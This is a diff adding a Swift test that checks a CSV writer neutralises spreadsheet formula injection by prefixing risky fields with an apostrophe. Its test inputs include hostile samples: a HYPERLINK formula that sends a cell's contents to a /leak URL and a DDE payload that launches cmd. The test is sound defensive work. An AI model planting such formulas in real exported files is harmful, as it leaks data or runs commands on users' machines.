@@ -23,6 +23,17 @@ struct CoverageTableTests {
         #expect(bytes == [0x41] + Array(expected.utf8), "the byte writer the CSV uses quotes the same way")
     }
 
+    @Test("a text field a spreadsheet would evaluate gets a leading quote; numbers are left alone", arguments: [
+        ("=HYPERLINK(\"http://127.0.0.1/leak?\"&B3,\"查看\")", "\"'=HYPERLINK(\"\"http://127.0.0.1/leak?\"\"&B3,\"\"查看\"\")\""),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("+1+1", "'+1+1"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\tcmd", "'\tcmd"), ("\r=1+1", "\"'\r=1+1\""),
+        ("＝1+1", "'＝1+1"), ("-", "'-"), ("- 列表", "'- 列表"),
+        ("-1.5", "-1.5"), ("12", "12"), ("0.25", "0.25"), ("a=b", "a=b"), (" =1", " =1"),
+    ])
+    func formulas(_ field: String, _ expected: String) {
+        #expect(CoverageTable.quote(field) == expected)
+    }
+
     @Test("the file written in pieces is the same bytes as written whole, and stops when told")
     func pieces() throws {
         let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
